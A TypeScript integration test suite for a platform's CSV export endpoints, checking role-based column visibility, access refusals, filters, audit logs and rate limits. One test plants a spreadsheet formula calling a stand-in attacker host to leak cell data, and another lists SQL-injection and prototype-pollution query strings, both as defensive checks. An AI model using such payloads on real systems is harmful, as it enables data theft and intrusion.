import { request, type IncomingMessage } from 'node:http'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { step } from '../../db/test/world-deals.ts'
import type { Person } from '../../db/test/world.ts'
import { another } from '../../db/transactions/test/fixture.ts'
import { codeOf, openDeals, type Deals } from '../transactions/test/deals.ts'
import { sources } from '../lists/sources.ts'
import { eventually } from '../test/eventually.ts'
import { rowsIn, type Row } from './test/table.ts'

let deals: Deals

beforeAll(async () => {
  deals = await openDeals({ LOG_LEVEL: 'debug' })
  const { dealFixture, kept, owner } = deals
  await kept(async () => {
    await step(dealFixture.operator.admin, dealFixture.transaction, 'issueInvoice')
    await another(owner, dealFixture, '777.77')
  })
})
beforeEach(() => deals.forgetLimits())
afterAll(() => deals.close())

async function take(list: string, person: Person, query = ''): Promise<Row[]> {
  const response = await deals.get(`/api/exports/${list}.csv${query}`, person.token)
  const text = await response.text()
  expect(response.status, text).toBe(200)
  return rowsIn(text)
}

const titlesOf = async (list: string, person: Person) => Object.keys((await take(list, person))[0] ?? {})

async function audited(): Promise<
  { actor: number; list: string; outcome: string; rows?: number; filters: string[] }[]
> {
  const { rows } = await deals.owner.query<{ entry: never }>(
    `select details || jsonb_build_object('actor', actor_user_id, 'list', subject) as entry
      from app.audit_logs where action = 'EXPORT' order by id`,
  )
  return rows.map(({ entry }) => entry)
}

test('a list is a named file that is never cached', async () => {
  const response = await deals.get('/api/exports/leads.csv', deals.dealFixture.vendor.master.token)
  expect(Object.fromEntries(response.headers)).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': expect.stringMatching(
      /^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/,
    ) as string,
    'cache-control': 'no-store',
    'x-content-type-options': 'nosniff',
  })
  const bytes = new Uint8Array(await response.arrayBuffer())
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
})

test('the operator’s master admin can export every list completely', async () => {
  const tables: Record<string, string> = {
    tickets: 'support_tickets',
    ledger: 'ledger_lines',
    people: 'user_infos',
    terms: 'commission_terms',
    audit: 'audit_logs',
  }
  for (const [list, source] of Object.entries(sources)) {
    if (!source.list.export) continue
    const { rows } = await deals.owner.query<{ count: number }>(
      `select count(*)::int as count from app.${tables[list] ?? list}`,
    )
    const found = (await take(list, deals.dealFixture.operator.master, '?view=ALL')).length
    const more = list === 'audit' ? 1 : 0
    expect(found, list).toBe((rows[0]?.count ?? 0) + more)
  }
  expect(Object.values(sources).filter((source) => source.list.export).length).toBe(11)
})

describe('"exactly the columns of the visibility table"', () => {
  const fee = ['Rate', 'Fee', 'Invoice status', 'Invoice', 'Payment reference']
  const payout = ['Share', 'Payout', 'No payout because', 'Payout reference']
  const always = [
    'Transaction',
    'Lead',
    'Type',
    'Status',
    'Closed',
    'Service',
    'Provider',
    'Referrer',
    'Agent',
    'Estimated deal',
    'Final deal',
  ]

  test('of transactions', async () => {
    const { vendor, operator, referrer, referrersAdmin, agent } = deals.dealFixture
    expect(await titlesOf('transactions', operator.admin)).toEqual([...always, ...fee, ...payout, 'Earnings'])
    expect(await titlesOf('transactions', vendor.master)).toEqual([...always, ...fee])
    expect(await titlesOf('transactions', referrer)).toEqual([...always, ...payout])
    expect(await titlesOf('transactions', agent)).toEqual(always)
    // An organization that is both referrer and provider sees only its own side of a deal.
    const [row] = await take('transactions', referrersAdmin)
    expect(row).toMatchObject({
      Fee: '',
      Rate: '',
      Invoice: '',
      Payout: expect.stringMatching(/^\d/) as string,
    })
  })

  test('the amounts match the deal', async () => {
    const { vendor, operator, referrer, transaction } = deals.dealFixture
    const mine = async (person: Person) =>
      (await take('transactions', person)).find((row) => row['Transaction'] === String(transaction))
    expect(await mine(operator.admin)).toMatchObject({
      'Final deal': '12345.67',
      Fee: '1234.57',
      Payout: '493.83',
      Earnings: '740.74',
      'Invoice status': 'NEW_INVOICE',
    })
    expect(await mine(vendor.master)).toMatchObject({ Fee: '1234.57', Rate: '10.000' })
    expect(await mine(referrer)).toMatchObject({ Payout: '493.83', Share: '40.000' })
  })

  test('invoices, terms, applications and the log are refused to uninvolved users', async () => {
    const { vendor, operator, referrer, agent } = deals.dealFixture
    for (const [list, people] of [
      ['invoices', [referrer, agent]],
      ['ledger', [agent]],
      ['terms', [vendor.master, referrer, agent]],
      ['applications', [vendor.master, referrer, agent]],
      ['audit', [operator.admin, vendor.admin, referrer]],
    ] as const) {
      for (const person of people)
        expect(await codeOf(await deals.get(`/api/exports/${list}.csv`, person.token)), list).toBe(
          '403 FORBIDDEN',
        )
    }
  })
})

test('another organization’s token exports none of it, and a token is required', async () => {
  const { third, others } = deals.dealFixture
  for (const list of ['leads', 'transactions', 'invoices', 'ledger'])
    expect(await take(list, third), list).toEqual([])
  expect(await take('leads', others.associate)).toEqual([])
  expect(await codeOf(await deals.get('/api/exports/leads.csv'))).toBe('401 UNAUTHENTICATED')
})

test('a customer’s name, email and phone appear only where visible', async () => {
  const { vendor, agent, referrer } = deals.dealFixture
  for (const person of [vendor.master, agent, referrer])
    for (const row of await take('leads', person))
      expect(row).toMatchObject({
        'Last name': 'Example',
        Email: expect.stringContaining('@customers.example') as string,
      })
})

test('a formula in a customer’s name stays text', async () => {
  const name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
  await deals.owner.query('update app.leads set lead_first_name = $2 where id = $1', [
    deals.dealFixture.lead,
    name,
  ])
  const response = await deals.get('/api/exports/leads.csv', deals.dealFixture.vendor.master.token)
  const text = await response.text()
  expect(rowsIn(text).map((row) => row['First name'])).toContain(`'${name}`)
  expect(text).not.toMatch(/(^|,|")=/m)
  expect(rowsIn(text).find((row) => row['Phone'])?.['Phone']).toMatch(/^'\+1/)
})

test('filters select matching rows, by the operator’s days', async () => {
  const { operator, vendor, transaction } = deals.dealFixture
  const all = async (query: string) =>
    (await take('transactions', operator.admin, query)).map((row) => row['Transaction'])
  const ids = (query: string) => all(`${query}&provider=${vendor.organization.id}`)
  expect(await ids('?status=INVOICE_SENT')).toEqual([String(transaction)])
  expect(await ids('?invoiceStatus=NEW_INVOICE,OVERDUE')).toEqual([String(transaction)])
  expect(await ids('?status=INVOICE_SENT,READY_FOR_INVOICE')).toHaveLength(2)
  await deals.owner.query(`update app.transactions set closed_at = '2026-03-09 04:30Z' where id = $1`, [
    transaction,
  ])
  expect(await ids('?closed=2026-03-08..2026-03-08')).toEqual([String(transaction)])
  expect(await ids('?closed=2026-03-09..2026-03-09')).toEqual([])
  expect(await ids('?closed=..2026-03-08')).toEqual([String(transaction)])
  expect(await all('?provider=1')).toEqual([])
})

test('invoices are selected by the status of their deals', async () => {
  const { operator, vendor } = deals.dealFixture
  const [invoice] = await take('invoices', vendor.master)
  expect(invoice).toMatchObject({ Status: 'New invoice', Void: 'no' })
  const ofVendor = `provider=${vendor.organization.id}&`
  for (const [person, within] of [
    [operator.admin, ofVendor],
    [vendor.master, ''],
  ] as const) {
    const found = async (status: string) => take('invoices', person, `?${within}status=${status}`)
    expect((await found('NEW_INVOICE,PAID')).map((row) => row['Invoice'])).toEqual([invoice?.['Invoice']])
    expect(await found('PAID,OVERDUE')).toEqual([])
  }
})

test('a file has the selected columns in its own order, and the requested sorting', async () => {
  const { operator, vendor } = deals.dealFixture
  const rows = await take('transactions', operator.admin, '?columns=fee,actual,transaction&sort=-amount')
  expect(Object.keys(rows[0] ?? {})).toEqual(['Transaction', 'Final deal', 'Fee'])
  const amounts = rows.map((row) => Number(row['Final deal']))
  expect(amounts).toEqual(amounts.toSorted((a, b) => b - a))
  const earnings = await take('transactions', vendor.master, '?columns=transaction,earnings')
  expect(Object.keys(earnings[0] ?? {})).toEqual(['Transaction'])
})

test.for([
  'stauts=PAID',
  'status=PAID;drop',
  'closed=2026-02-30..',
  'closed=yesterday',
  'closed=..',
  'closed=2026-01-01',
  'closed=2026-01-01..2026-01-02..',
  'provider=1 or 1=1',
  'provider=',
  'sort=fee',
  'sort=--closed',
  'sort=',
  'view=MY_LEADS',
  'columns=secrets',
  '__proto__=x',
  'constructor=x',
])('?%s is refused', async (query) => {
  const token = deals.dealFixture.operator.master.token
  expect(await codeOf(await deals.get(`/api/exports/transactions.csv?${query}`, token))).toBe(
    '400 INVALID_INPUT',
  )
})

test.for(['secrets', 'constructor', 'leads.csv', 'x'.repeat(300)])('there is no list %s', async (list) => {
  const { status } = await deals.get(`/api/exports/${list}.csv`, deals.dealFixture.operator.master.token)
  expect([404, 400, 414]).toContain(status)
})

test('the audit log has the user, list, filters and row count, without filter values', async () => {
  const before = (await audited()).length
  const { operator, vendor } = deals.dealFixture
  await take('leads', operator.admin, `?provider=${vendor.organization.id}&submitted=2026-01-01..`)
  await deals.get('/api/exports/invoices.csv', deals.dealFixture.referrer.token)
  const of = { actor: operator.admin.id, list: 'leads', filters: ['provider', 'submitted'] }
  await eventually(async () =>
    expect((await audited()).slice(before)).toEqual([
      { ...of, outcome: 'begun' },
      { ...of, outcome: 'whole', rows: 2 },
    ]),
  )
  expect(deals.product.said()).not.toContain('2026-01-01')
})

/** Makes a file far larger than the buffers. */
async function withManyServices(count: number): Promise<void> {
  await deals.owner.query(
    `begin; set local session_replication_role = replica;
      insert into app.services (organization_id, name, category_id, customer_type, is_active)
        select ${deals.dealFixture.vendor.organization.id}, 'Many ' || n || repeat(' words', 30),
            (select min(id) from app.categories), 'both', true from generate_series(1, ${count}) n;
      commit`,
  )
}

/** Starts an export and stops reading after the first bytes. */
async function begin(list: string, { token }: Person) {
  const call = request(`${deals.address}/api/exports/${list}.csv`, {
    headers: { authorization: `Bearer ${token}` },
  })
  const response = new Promise<IncomingMessage>((resolve, reject) => {
    call.on('response', resolve)
    call.on('error', reject)
  })
  call.end()
  const answer = await response
  answer.pause()
  return { status: answer.statusCode, leave: () => call.destroy() }
}

const reading = async () =>
  (
    await deals.owner
      .query(`select from pg_stat_activity where application_name = 'turnstone web' and datname = current_database()
    and state <> 'idle' and xact_start is not null`)
  ).rowCount

test('one export at a time per user; a disconnect cancels it and is logged', async () => {
  await withManyServices(60_000)
  const { vendor, operator } = deals.dealFixture
  const before = (await audited()).length
  const first = await begin('services', vendor.master)
  expect(first.status).toBe(200)
  expect(await codeOf(await deals.get('/api/exports/leads.csv', vendor.master.token))).toBe(
    '429 RATE_LIMITED',
  )
  expect((await take('leads', operator.admin)).length).toBeGreaterThan(0)
  await eventually(async () => expect(await reading()).toBe(1))
  first.leave()
  await eventually(async () => expect(await reading()).toBe(0))
  await eventually(async () => {
    const entry = (await audited()).slice(before).find(({ outcome }) => outcome === 'cut off')
    expect(entry).toMatchObject({ actor: vendor.master.id, list: 'services' })
    expect(entry?.rows).toBeLessThan(60_000)
  })
  expect((await take('leads', vendor.master)).length).toBeGreaterThan(0)
}, 60_000)

test('five exports run at a time, of different users', async () => {
  const { vendor, operator, multiRole } = deals.dealFixture
  const five = [vendor.master, vendor.admin, operator.master, operator.admin, multiRole.master]
  const running = []
  for (const person of five) running.push(await begin('services', person))
  expect(running.map(({ status }) => status)).toEqual(five.map(() => 200))
  expect(await codeOf(await deals.get('/api/exports/leads.csv', vendor.agent.token))).toBe('429 RATE_LIMITED')
  for (const { leave } of running) leave()
  await eventually(async () => expect(await reading()).toBe(0))
  expect((await deals.get('/api/exports/leads.csv', vendor.agent.token)).status).toBe(200)
}, 60_000)

test('a user can export at most 60 files an hour', async () => {
  const { token } = deals.dealFixture.vendor.admin
  await take('leads', deals.dealFixture.vendor.admin)
  await deals.owner.query(`update private.rate_limits set used = 60 where bucket = 'export'`)
  expect(await codeOf(await deals.get('/api/exports/leads.csv', token))).toBe('429 RATE_LIMITED')
})
